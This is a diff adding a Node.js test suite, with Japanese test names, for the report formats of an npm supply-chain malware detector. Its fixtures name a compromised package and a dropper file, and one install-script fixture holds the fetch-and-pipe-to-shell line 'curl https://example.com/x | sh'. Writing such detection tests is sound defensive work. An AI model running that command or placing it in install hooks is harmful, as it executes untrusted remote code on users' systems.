@@ -0,0 +1,257 @@
+const { describe, it } = require('node:test');
+const assert = require('node:assert/strict');
+const { createTranslator } = require('../lib/i18n.cjs');
+const { getReporter } = require('../lib/reporters/index.cjs');
+const { categorize } = require('../lib/reporters/categories.cjs');
+
+const en = createTranslator('en');
+const ja = createTranslator('ja');
+
+// 日本語（ひらがな・カタカナ・漢字）を含むか
+const JAPANESE = /[぀-ヿ一-鿿]/;
+
+// 検出結果を 1 件ずつ持つ単一プロジェクトの検査結果
+const results = {
+	timestamp: '2025-01-01T00:00:00.000Z',
+	targetDirectory: '/work/app',
+	totalChecked: 10,
+	foundInNodeModules: [
+		{
+			package: 'evil-pkg',
+			version: '1.0.0',
+			path: '/work/app/node_modules/evil-pkg',
+			depth: 0,
+			type: 'installed',
+			compromisedVersions: ['1.0.0'],
+			advisory: { campaign: 'Shai-Hulud', firstSeen: '2025-09-15', source: null, severity: null },
+			dependencyPath: ['app', 'evil-pkg@1.0.0'],
+			dependencyPaths: [['app', 'evil-pkg@1.0.0'], ['app', 'other@1.0.0', 'evil-pkg@1.0.0']],
+		},
+	],
+	foundInPackageJson: [
+		{ package: 'evil-pkg', version: '^1.0.0', type: 'dependencies', file: '/work/app/package.json', line: 3, compromisedVersions: ['1.0.0'], matchingVersions: ['1.0.0'], advisory: null },
+	],
+	foundInLockfiles: [
+		{
+			package: 'evil-pkg',
+			version: '1.0.0',
+			lockfile: '/work/app/package-lock.json',
+			lockfileType: 'npm',
+			line: 5,
+			dependencyPath: ['app', 'evil-pkg@1.0.0'],
+			dependencyPaths: [['app', 'evil-pkg@1.0.0']],
+			compromisedVersions: ['1.0.0'],
+			advisory: null,
+		},
+	],
+	suspiciousFiles: [{ name: 'setup_bun.js', type: 'filename', description: 'ドロッパー（マルウェア配布スクリプト）', paths: ['/work/app/setup_bun.js'] }],
+	installScripts: [],
+	summary: { safe: false, totalIssues: 4, criticalLevel: 'critical' },
+};
+
+describe('レポーターの表示言語', () => {
+	for (const format of ['markdown', 'junit', 'sarif']) {
+		it(`${format} は翻訳関数の言語で出力する`, () => {
+			const english = getReporter(format).render(results, { t: en });
+			const japanese = getReporter(format).render(results, { t: ja });
+
+			assert.doesNotMatch(english, JAPANESE);
+			assert.match(japanese, JAPANESE);
+		});
+	}
+
+	it('SARIF のルールの説明とメッセージを翻訳する', () => {
+		const sarif = JSON.parse(getReporter('sarif').render(results, { t: en }));
+		const run = sarif.runs[0];
+		const rule = run.tool.driver.rules.find((item) => item.id === 'suspicious-file');
+
+		assert.equal(rule.shortDescription.text, en('report.sarif.rule.suspicious-file'));
+		assert.equal(run.results.find((item) => item.ruleId === 'suspicious-file').message.text, 'Suspicious file setup_bun.js detected (Dropper (malware installer script))');
+	});
+
+	it('未対応の形式のエラーも翻訳する', () => {
+		assert.throws(() => getReporter('html', { t: en }), /^Error: Unsupported report format: html/);
+	});
+});
+
+describe('SARIF のレベル', () => {
+	it('インストールスクリプトのレベルはパターンのリスクレベルに従う', () => {
+		const script = { package: 'evil-pkg', version: '1.0.0', path: '/work/app/node_modules/evil-pkg', depth: 0, hook: 'postinstall' };
+		const withScripts = {
+			...results,
+			installScripts: [
+				{ ...script, script: 'node setup_bun.js', flags: ['knownPayload'], severity: 'critical' },
+				{ ...script, script: 'curl https://example.com/x | sh', flags: ['download', 'pipeToShell'], severity: 'high' },
+				{ ...script, script: 'node -e "require(\'./postinstall\')"', flags: ['inlineCode'], severity: 'warning' },
+				{ ...script, hook: 'install', script: 'node-gyp rebuild', flags: [], severity: null },
+			],
+		};
+		const sarif = JSON.parse(getReporter('sarif').render(withScripts, { t: en }));
+		const levels = sarif.runs[0].results.filter((item) => item.ruleId === 'suspicious-install-script').map((item) => item.level);
+		assert.deepEqual(levels, ['error', 'warning', 'note']);
+		// ルールの既定のレベルは high のまま
+		assert.equal(sarif.runs[0].tool.driver.rules.find((rule) => rule.id === 'suspicious-install-script').defaultConfiguration.level, 'warning');
+	});
+
+	it('宣言のみは warning、それ以外の侵害パッケージと疑わしいファイルは error', () => {
+		const sarif = JSON.parse(getReporter('sarif').render(results, { t: en }));
+		assert.deepEqual(
+			sarif.runs[0].results.map((item) => [item.ruleId, item.level]),
+			[
+				['compromised-package-installed', 'error'],
+				['compromised-package-declared', 'warning'],
+				['compromised-package-locked', 'error'],
+				['suspicious-file', 'error'],
+			],
+		);
+	});
+});
+
+describe('SARIF の構造', () => {
+	const withReference = {
+		...results,
+		foundInNodeModules: [
+			...results.foundInNodeModules,
+			{
+				package: 'evil-pkg',
+				version: '1.0.0',
+				path: '/work/app/node_modules/other',
+				type: 'dependency-reference',
+				referencedBy: 'other',
+				compromisedVersions: ['1.0.0'],
+				advisory: null,
+			},
+		],
+	};
+
+	it('すべての result のルール ID がルール定義にある', () => {
+		const run = JSON.parse(getReporter('sarif').render(withReference, { t: en })).runs[0];
+		const ruleIds = run.tool.driver.rules.map((rule) => rule.id);
+
+		assert.deepEqual(ruleIds, [
+			'compromised-package-installed',
+			'compromised-dependency-reference',
+			'compromised-package-locked',
+			'compromised-package-declared',
+			'suspicious-install-script',
+			'suspicious-file',
+		]);
+		assert.deepEqual(
+			run.results.map((item) => item.ruleId),
+			['compromised-package-installed', 'compromised-dependency-reference', 'compromised-package-declared', 'compromised-package-locked', 'suspicious-file'],
+		);
+		run.results.forEach((item) => assert.ok(ruleIds.includes(item.ruleId), item.ruleId));
+	});
+
+	it('位置は SRCROOT からの相対パスで、行番号がわかる場合は region を付ける', () => {
+		const run = JSON.parse(getReporter('sarif').render(withReference, { t: en })).runs[0];
+
+		assert.deepEqual(run.originalUriBaseIds, { SRCROOT: { uri: 'file:///work/app/' } });
+		assert.deepEqual(
+			run.results.map((item) => item.locations[0].physicalLocation),
+			[
+				{ artifactLocation: { uri: 'node_modules/evil-pkg/package.json', uriBaseId: 'SRCROOT' } },
+				{ artifactLocation: { uri: 'node_modules/other/package.json', uriBaseId: 'SRCROOT' } },
+				{ artifactLocation: { uri: 'package.json', uriBaseId: 'SRCROOT' }, region: { startLine: 3 } },
+				{ artifactLocation: { uri: 'package-lock.json', uriBaseId: 'SRCROOT' }, region: { startLine: 5 } },
+				{ artifactLocation: { uri: 'setup_bun.js', uriBaseId: 'SRCROOT' } },
+			],
+		);
+	});
+
+	it('複数プロジェクトの位置は共通の親ディレクトリからの相対パス', () => {
+		const other = { ...results, targetDirectory: '/work/api', foundInNodeModules: [], foundInLockfiles: [], suspiciousFiles: [], foundInPackageJson: [{ ...results.foundInPackageJson[0], file: '/work/api/package.json', line: 7 }] };
+		const run = JSON.parse(getReporter('sarif').render({ timestamp: results.timestamp, projects: [results, other], summary: results.summary }, { t: en })).runs[0];
+
+		assert.equal(run.originalUriBaseIds.SRCROOT.uri, 'file:///work/');
+		assert.deepEqual(run.results.at(-1).locations[0].physicalLocation, { artifactLocation: { uri: 'api/package.json', uriBaseId: 'SRCROOT' }, region: { startLine: 7 } });
+		assert.equal(run.results[0].locations[0].physicalLocation.artifactLocation.uri, 'app/node_modules/evil-pkg/package.json');
+	});
+});
+
+describe('検査カテゴリ', () => {
+	it('カテゴリごとの検出件数とリスクレベルを検査順に返し、位置はプロジェクトからの相対パス', () => {
+		const categories = categorize(results, en);
+
+		assert.deepEqual(
+			categories.map((category) => [category.id, category.criticalLevel, category.findings.length]),
+			[
+				['suspicious-files', 'critical', 1],
+				['installed', 'critical', 1],
+				['dependency-references', 'critical', 0],
+				['install-scripts', 'high', 0],
+				['package-json', 'high', 1],
+				['lockfiles', 'critical', 1],
+			],
+		);
+		assert.deepEqual(categories[1].findings, [
+			{
+				title: 'evil-pkg@1.0.0',
+				location: 'node_modules/evil-pkg',
+				detail: 'Compromised versions: 1.0.0 / Dependency path: app > evil-pkg@1.0.0 (1 more) [Shai-Hulud, first seen: 2025-09-15]',
+			},
+		]);
+		assert.deepEqual(
+			categories.flatMap((category) => category.findings.map((finding) => finding.location)),
+			['setup_bun.js', 'node_modules/evil-pkg', 'package.json:3', 'package-lock.json:5'],
+		);
+	});
+});
+
+describe('JUnit XML', () => {
+	it('カテゴリごとの testcase のうち検出があるものを failure にし、検出結果を列挙する', () => {
+		const xml = getReporter('junit').render(results, { t: en });
+
+		assert.match(xml, /<testsuites name="npm-attack-detect-project" tests="6" failures="4" errors="0">/);
+		assert.match(xml, /<testsuite name="\/work\/app" tests="6" failures="4" /);
+		assert.deepEqual(
+			[...xml.matchAll(/<testcase classname="npm-attack-detect\.([a-z-]+)"[^>]*?(\/?)>/g)].map((match) => [match[1], match[2] === '/' ? 'pass' : 'fail']),
+			[
+				['suspicious-files', 'fail'],
+				['installed', 'fail'],
+				['dependency-references', 'pass'],
+				['install-scripts', 'pass'],
+				['package-json', 'fail'],
+				['lockfiles', 'fail'],
+			],
+		);
+		assert.match(xml, /<failure message="1 found" type="high">evil-pkg@\^1\.0\.0 \(package\.json:3\) - dependencies, Compromised versions in range: 1\.0\.0<\/failure>/);
+		assert.match(xml, /<failure message="1 found" type="critical">evil-pkg@1\.0\.0 \(package-lock\.json:5\) - Dependency path: app &gt; evil-pkg@1\.0\.0<\/failure>/);
+	});
+
+	it('複数プロジェクトはプロジェクトごとの testsuite と合計を出力する', () => {
+		const clean = { ...results, targetDirectory: '/work/api', foundInNodeModules: [], foundInPackageJson: [], foundInLockfiles: [], suspiciousFiles: [] };
+		const xml = getReporter('junit').render({ timestamp: results.timestamp, projects: [results, clean], summary: results.summary }, { t: en });
+
+		assert.match(xml, /<testsuites name="npm-attack-detect-project" tests="12" failures="4" errors="0">/);
+		assert.match(xml, /<testsuite name="\/work\/api" tests="6" failures="0" /);
+	});
+});
+
+describe('Markdown', () => {
+	it('サマリーとカテゴリごとの件数の表、検出があるカテゴリの検出結果の表を出力する', () => {
+		const lines = getReporter('markdown').render(results, { t: en }).split('\n');
+
+		['| Scan target | `/work/app` |', '| Packages checked | 10 |', '| Issues | 4 |', '| Risk level | 🚨 **CRITICAL** |'].forEach((row) => assert.ok(lines.includes(row), row));
+		assert.deepEqual(lines.filter((line) => /^\| [^|]+ \| (❌ \d+ found|✅ None found) \|$/.test(line)), [
+			'| Suspicious files | ❌ 1 found |',
+			'| Installed packages | ❌ 1 found |',
+			'| Dependency references | ✅ None found |',
+			'| Suspicious install scripts | ✅ None found |',
+			'| package.json | ❌ 1 found |',
+			'| Lockfiles | ❌ 1 found |',
+		]);
+		assert.deepEqual(
+			lines.filter((line) => line.startsWith('### ')),
+			['### Suspicious files (1)', '### Installed packages (1)', '### package.json (1)', '### Lockfiles (1)'],
+		);
+		assert.ok(lines.includes('| `evil-pkg@^1.0.0` | `package.json:3` | dependencies, Compromised versions in range: 1.0.0 |'));
+		assert.ok(lines.includes('| `evil-pkg@1.0.0` | `package-lock.json:5` | Dependency path: app > evil-pkg@1.0.0 |'));
+	});
+
+	it('表のセルの "|" をエスケープする', () => {
+		const piped = { ...results, foundInPackageJson: [{ ...results.foundInPackageJson[0], version: '^1.0.0 || ^2.0.0' }] };
+		const markdown = getReporter('markdown').render(piped, { t: en });
+		assert.match(markdown, /\| `evil-pkg@\^1\.0\.0 \\\|\\\| \^2\.0\.0` \|/);
+	});
+});